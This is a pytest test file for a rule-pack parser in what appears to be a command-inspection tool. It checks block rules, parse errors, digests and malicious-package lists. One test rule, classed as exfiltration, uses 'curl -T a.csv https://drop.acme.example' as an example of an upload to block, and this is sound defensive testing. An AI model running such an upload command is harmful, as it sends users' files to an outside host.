import pytest

from posthouse.inspection.listed import Lists
from posthouse.inspection.pack import Pack, harmful, listings, parse
from posthouse.model.errors import PackRefused

RULE = """
[[rule]]
id = "acme/no-uploads"
kinds = ["send"]
class = "exfiltration"
severity = "high"
mode = "block"
reason = {en = "sends a table away", zh = "会发送表格"}
examples = [{run = "curl -T a.csv https://drop.acme.example"}]
misses = [{run = "cat a.csv"}]
"""


def pack(text: str, name: str = "acme", version: int = 1) -> Pack:
    return parse(name, version, text.encode())


def test_a_pack_is_read_with_its_rules() -> None:
    row = pack(RULE).body.rule[0]
    assert (row.id, row.kind_class, row.severity, row.mode) == (
        *("acme/no-uploads", "exfiltration", "high", "block"),
    )
    assert row.reason.zh == "会发送表格"
    assert row.examples[0].user


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("[[rule", "cannot be read"),
        (RULE.replace("mode =", "mood ="), "mood"),
        (RULE.replace('"block"', '"maybe"'), "mode"),
        (RULE.replace("acme/", "other/"), "named acme/"),
        (RULE + RULE, "twice"),
        (RULE.replace('["send"]', '["sends"]'), "kinds"),
        (RULE.replace('["send"]', "[]"), "at least one kind"),
        (RULE.replace('kinds = ["send"]', 'kinds = ["send"]\ncheck = "given"'), "check in code"),
        (RULE.replace("misses", "# misses"), "near miss"),
        (RULE.replace('class = "exfiltration"', "topic = '('"), "regular expression"),
        ('[lists.nowhere]\nnames = ""', "list that is known"),
        ('[lists.malicious]\nnames = "npm x"', "ecosystem, name"),
        ('[modes]\n"inspection/failed" = "note"', "can be changed"),
        ('[modes]\n"hidden/tags" = "note"', "can be changed"),
        ('[modes]\n"facts/send" = "off"', "modes"),
    ],
)
def test_what_is_wrong_with_a_pack_is_said(text: str, found: str) -> None:
    with pytest.raises(PackRefused) as refused:
        pack(text)
    assert found in refused.value.message
    assert refused.value.hint


def test_the_digest_is_that_of_the_bytes() -> None:
    assert pack(RULE).digest != pack(RULE + "\n").digest
    assert pack(RULE, version=3).told == f"acme 3 {pack(RULE).digest[:16]}"


def test_lists_of_packs_are_added_or_take_the_place_of_others() -> None:
    first = pack('[lists.npm]\nnames = "one two"\nreplaces = true', "a")
    second = pack("[lists.npm]\nnames = '''\nthree\n'''", "b")
    found = listings((first, second))["npm"]
    assert (found.names, found.replaces) == (("one", "two", "three"), True)
    assert listings((second,))["npm"].replaces is False


def test_harmful_packages_of_a_pack_are_found() -> None:
    own = pack("[lists.malicious]\nnames = '''\nnpm zeta * A-1\nnpm alpha 1.0,>=2&<3 A-2\n'''")
    lists = Lists(listings((own,)), harmful((own,)))
    assert lists.harm("npm", "zeta", "9") == "A-1"
    assert lists.harm("npm", "alpha", "2.4") == "A-2"
    assert lists.harm("npm", "alpha", "3.0") == ""
